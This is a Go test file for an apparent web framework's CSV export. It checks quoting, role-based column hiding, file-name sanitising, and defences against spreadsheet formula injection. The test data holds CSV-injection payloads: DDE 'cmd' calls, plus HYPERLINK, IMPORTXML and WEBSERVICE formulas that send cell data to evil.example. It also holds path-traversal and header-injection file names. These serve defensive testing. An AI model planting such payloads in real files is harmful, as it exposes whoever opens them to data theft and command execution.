package fastness_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"log/slog"
	"mime"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/fastness/fastness"
	"github.com/fastness/fastness/auth/access"
	"github.com/fastness/fastness/fastnesstest"
	"github.com/fastness/fastness/guard/ratelimit"
	"github.com/fastness/fastness/schema"
	"github.com/shopspring/decimal"
)

// stock is a row of everything that a cell can be made of.
type stock struct {
	Name    string           `json:"name"`
	Count   int              `json:"count"`
	Price   decimal.Decimal  `json:"price"`
	Note    *string          `json:"note"`
	Cost    *decimal.Decimal `json:"cost,omitzero" visibleTo:"admin,seller"`
	Tags    []string         `json:"tags,omitempty"`
	Sold    bool             `json:"sold"`
	Hidden  string           `json:"hidden,omitzero" writeOnly:"true"`
	private string

	_ schema.Computed `name:"left" method:"Left" visibleTo:"admin"`
}

func (s stock) Left() int { return s.Count - 1 }

// exported serves rows as CSV at "/".
func exported[T any](t *testing.T, answer fastness.CSV[T]) *fastnesstest.API {
	t.Helper()
	app := secured()
	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[T], error) { return answer, nil }, access.Public)
	return fastnesstest.New(t, app)
}

func TestCSVIsWhatRFC4180Says(t *testing.T) {
	note, cost := "two \"quoted\" words,\r\nand a line; none else", decimal.RequireFromString("-7.50")
	api := exported(t, fastness.CSV[stock]{Name: "stock.csv", Rows: []stock{
		{Name: "Lamp", Count: -5, Price: decimal.RequireFromString("42.50"), Note: &note, Cost: &cost, Tags: []string{"a", "b"}, Sold: true, Hidden: "hidden", private: "private"},
		{Name: "Löwe", Count: 1 << 40},
	}})
	res := api.Get("/", letter("eve")...).Want(200)
	const want = "\"name\",\"count\",\"price\",\"note\",\"cost\",\"tags\",\"sold\",\"left\"\r\n" +
		"\"Lamp\",-5,42.5,\"two \"\"quoted\"\" words,\r\nand a line; none else\",-7.5,\"[\"\"a\"\",\"\"b\"\"]\",true,-6\r\n" +
		"\"Löwe\",1099511627776,0,,,,false,1099511627775\r\n"
	if string(res.Body) != want {
		t.Errorf("got\n%s\nwant\n%s", res.Body, want)
	}
	res.WantHeader("Content-Type", "text/csv; charset=utf-8").WantHeader("X-Content-Type-Options", "nosniff").WantHeader("Cache-Control", "no-store").
		WantHeader("Content-Disposition", `attachment; filename="stock.csv"`)
	if policy := res.Header.Get("Content-Security-Policy"); !strings.HasPrefix(policy, "default-src 'none'") {
		t.Errorf("policy %q", policy)
	}
}

// A member that is for administrators is in nobody else's file: neither its values
// nor its name.
func TestCSVHasOnlyTheColumnsThatItsReaderMaySee(t *testing.T) {
	cost := decimal.RequireFromString("30")
	api := exported(t, fastness.CSV[stock]{Rows: []stock{{Name: "Lamp", Cost: &cost}}})
	for who, want := range map[string]string{
		"":    "\"name\",\"count\",\"price\",\"note\",\"tags\",\"sold\"\r\n\"Lamp\",0,0,,,false\r\n",
		"ann": "\"name\",\"count\",\"price\",\"note\",\"tags\",\"sold\"\r\n\"Lamp\",0,0,,,false\r\n",
		"bob": "\"name\",\"count\",\"price\",\"note\",\"cost\",\"tags\",\"sold\"\r\n\"Lamp\",0,0,,30,,false\r\n",
		"eve": "\"name\",\"count\",\"price\",\"note\",\"cost\",\"tags\",\"sold\",\"left\"\r\n\"Lamp\",0,0,,30,,false,-1\r\n",
	} {
		if res := api.Get("/", letter(who)...).Want(200); string(res.Body) != want {
			t.Errorf("%s got\n%s\nwant\n%s", who, res.Body, want)
		}
	}
}

// formulas are what spreadsheets have run of a cell.
func formulas() []string {
	return []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, `=WEBSERVICE("https://evil.example")`,
		`=DDE("cmd";"/C calc";"!A0")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `-5`, `+5`, `-`,
		"\t=1", "\r=1", "\n=1", "\r\n=1", "\tx", "\rx", "\nx", "\x00x", "\x00=1", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\u202e=1", "\v=1", "\x01=1",
		`"=1"`, `";=1`, `,=1`, `;=1`, `|=1`, `"",=1`, "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " \uff1d1", "\ufe661", "\u22121",
		"a;=1", "a\t=1", "a\n=1", "a\r\n=1", "a; =1", "a;\"=1\"", "a;;=1", "a\n\n\t@SUM(1)", "a;\uff1d1", "a;,=1", `x";=1`,
	}
}

// Where a reader could begin a cell, none begins like a formula: in the file as
// it is written, and in the eyes of a reader with another separator, which sees a
// quote in the middle of a cell as a letter.
func TestSpreadsheetRunsNothingOfAnExport(t *testing.T) {
	type row struct {
		Text string `json:"text"`
		Next string `json:"next"`
	}
	var rows []row
	for _, f := range formulas() {
		rows = append(rows, row{f, f})
	}
	body := string(exported(t, fastness.CSV[row]{Rows: rows}).Get("/").Want(200).Body)
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(records) != len(rows)+1 {
		t.Fatalf("%d records for %d rows (%v)", len(records), len(rows), err)
	}
	for i, record := range records[1:] {
		for _, cell := range record {
			cells := append([]string{cell}, strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) })...)
			for _, part := range cells {
				begins := strings.TrimLeft(part, "\"',;| \u00a0\u3000\ufeff\u200b\u202e\v\x00\x01\t\r\n")
				if begins != "" && strings.ContainsAny(begins[:1], "=+-@") && !strings.Contains(part[:len(part)-len(begins)], "'") ||
					slices.ContainsFunc([]string{"\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212", "\t", "\r", "\n", "\x00"}, func(bad string) bool { return strings.HasPrefix(part, bad) }) {
					t.Errorf("%q is written %q, in which %q is a formula", rows[i].Text, cell, part)
				}
			}
		}
		if !strings.Contains(record[0], "'") {
			t.Errorf("%q is written as %q", rows[i].Text, record[0])
		}
	}
}

func TestOrdinaryTextsStayAsTheyAre(t *testing.T) {
	type row struct {
		Text string `json:"text"`
	}
	var rows []row
	for _, text := range []string{"", "Lamp", "1", "a=b", "a-b", "ada@example.com", "x, -5", "5 - 3", "a; b", "a\nb", "\"a\"", "'a", "(=1)", "'=1", "ü", "e.g. \"=1\"", "a;b=1", "one\ntwo-three", "\\=1", "#-"} {
		rows = append(rows, row{text})
	}
	body := string(exported(t, fastness.CSV[row]{Rows: rows}).Get("/").Want(200).Body)
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(records) != len(rows)+1 || records[0][0] != "text" {
		t.Fatalf("%d records for %d rows (%v)", len(records), len(rows), err)
	}
	for i, record := range records[1:] {
		if record[0] != rows[i].Text {
			t.Errorf("%q came back as %q", rows[i].Text, record[0])
		}
	}
}

func TestEmptyCSVHasItsHeader(t *testing.T) {
	type one struct {
		Text *string `json:"text"`
	}
	if res := exported(t, fastness.CSV[one]{}).Get("/").Want(200); string(res.Body) != "\"text\"\r\n" {
		t.Errorf("got %q", res.Body)
	}
	if res := exported(t, fastness.CSV[one]{Rows: []one{{}, {}}}).Get("/").Want(200); string(res.Body) != "\"text\"\r\n\"\"\r\n\"\"\r\n" {
		t.Errorf("got %q", res.Body)
	}
	app := secured()
	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[one], error) { return fastness.CSV[one]{}, nil }, access.Public)
	res := fastnesstest.New(t, app).Do(http.MethodHead, "/", nil).Want(200)
	if len(res.Body) > 0 || res.Header.Get("Content-Length") != "8" {
		t.Errorf("HEAD: header %v, body %q", res.Header, res.Body)
	}
}

// The name of a file may be a stranger's: that of a shop, or of an item.
func TestFileNameLeadsNowhereAndShowsWhatItIs(t *testing.T) {
	type row struct {
		A int `json:"a"`
	}
	for name, want := range map[string]string{
		"":                                  "export.csv",
		"items":                             "items.csv",
		"items.CSV":                         "items.csv",
		"../../etc/passwd":                  "passwd.csv",
		`C:\Windows\x.exe`:                  "x.exe.csv",
		"a.csv\r\nSet-Cookie: x=y":          "a.csvSet-Cookie_ x=y.csv",
		`a"; filename="evil.exe`:            "a_; filename=_evil.exe.csv",
		".htaccess":                         "htaccess.csv",
		"~/-rf":                             "rf.csv",
		"\u202evsc.exe":                     "vsc.exe.csv",
		"Bücher.csv":                        "Bücher.csv",
		"100%41.csv":                        "100%41.csv",
		"\x00\x7f\u2028\ufeff":              "file.csv",
		" . . ":                             "file.csv",
		strings.Repeat("ü", 1000) + ".csv":  strings.Repeat("ü", 125) + ".csv",
		"a" + strings.Repeat("b", 99) + "'": "a" + strings.Repeat("b", 99) + "'.csv",
	} {
		header := exported(t, fastness.CSV[row]{Name: name}).Get("/").Want(200).Header.Get("Content-Disposition")
		disposition, parameters, err := mime.ParseMediaType(header)
		if err != nil || disposition != "attachment" || parameters["filename"] != want {
			// mime prefers filename* where it is there, as browsers do.
			t.Errorf("%q: %q is read as %q, want %q (%v)", name, header, parameters["filename"], want, err)
		}
		if before, _, _ := strings.Cut(header, "filename*="); strings.Contains(before, "%") {
			t.Errorf("%q: %q has what some browsers decode", name, before)
		}
		if strings.ContainsFunc(header, func(r rune) bool { return r < ' ' || r > '~' }) {
			t.Errorf("%q: header %q", name, header)
		}
	}
}

func TestDocumentSaysCSV(t *testing.T) {
	app := secured()
	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[stock], error) { return fastness.CSV[stock]{}, nil }, access.Public)
	document, err := app.Document()
	if err != nil {
		t.Fatal(err)
	}
	item, _ := document.Paths.Get("/")
	response, _ := item.Get.Responses.Get("200")
	var types []string
	for name := range response.Content.All() {
		types = append(types, name)
	}
	if !reflect.DeepEqual(types, []string{"text/csv"}) {
		t.Errorf("the answer is %q", types)
	}
}

func TestCSVOfWhatIsNoRowDoesNotStart(t *testing.T) {
	for _, app := range []*fastness.App{csvOf[int](), csvOf[[]stock](), csvOf[map[string]int](), csvOf[struct{}](), csvOf[*stock](), csvOf[any]()} {
		if err := app.Start(t.Context()); err == nil || !strings.Contains(err.Error(), "want a struct with members") {
			t.Errorf("the app starts: %v", err)
		}
	}
}

func csvOf[T any]() *fastness.App {
	app := secured()
	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[T], error) { return fastness.CSV[T]{}, nil }, access.Public)
	return app
}

// An error of the function, or of the encoder, is no half file.
func TestCSVThatFailsIsAProblem(t *testing.T) {
	type row struct {
		Value any `json:"value"`
	}
	res := exported(t, fastness.CSV[row]{Rows: []row{{1}, {func() {}}}}).Get("/").Want(500)
	res.WantHeader("Content-Type", "application/problem+json").WantHeader("Content-Disposition", "")
}

// The seller chose the name of the item; whoever opens the file sees it, and runs
// nothing.
func ExampleCSV() {
	type sale struct {
		Item  string          `json:"item"`
		Price decimal.Decimal `json:"price"`
	}
	app := fastness.New(fastness.Config{Title: "Sales", Version: "1.0.0", Logger: slog.New(slog.DiscardHandler)})
	fastness.Get(app, "/sales", func(context.Context, struct{}) (fastness.CSV[sale], error) {
		return fastness.CSV[sale]{Name: "sales.csv", Rows: []sale{
			{"Lamp", decimal.RequireFromString("42.5")},
			{`=HYPERLINK("https://evil.example/?"&A1)`, decimal.RequireFromString("-5")},
		}}, nil
	}, access.Public)

	r := httptest.NewRequest("GET", "https://localhost/sales", nil)
	w := httptest.NewRecorder()
	app.ServeHTTP(w, r)
	fmt.Println(w.Header().Get("Content-Disposition"))
	fmt.Println(strings.ReplaceAll(w.Body.String(), "\r", ""))
	// Output:
	// attachment; filename="sales.csv"
	// "item","price"
	// "Lamp",42.5
	// "'=HYPERLINK(""https://evil.example/?""&A1)",-5
}

func BenchmarkCSV(b *testing.B) {
	type row struct {
		ID   int    `json:"id"`
		Name string `json:"name"`
		Note string `json:"note"`
	}
	rows := make([]row, 10_000)
	for i := range rows {
		rows[i] = row{i, "Lamp", "Brass, with a \"green\" shade; two of them."}
	}
	app := fastness.New(fastness.Config{Title: "T", Version: "1", NoCompression: true, Logger: slog.New(slog.DiscardHandler), RateLimit: ratelimit.Config{InsecureUnlimited: "it is a benchmark"}})
	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[row], error) { return fastness.CSV[row]{Rows: rows}, nil }, access.Public)
	for b.Loop() {
		w := httptest.NewRecorder()
		app.ServeHTTP(w, httptest.NewRequest("GET", "https://localhost/", nil))
		b.SetBytes(int64(w.Body.Len()))
	}
}
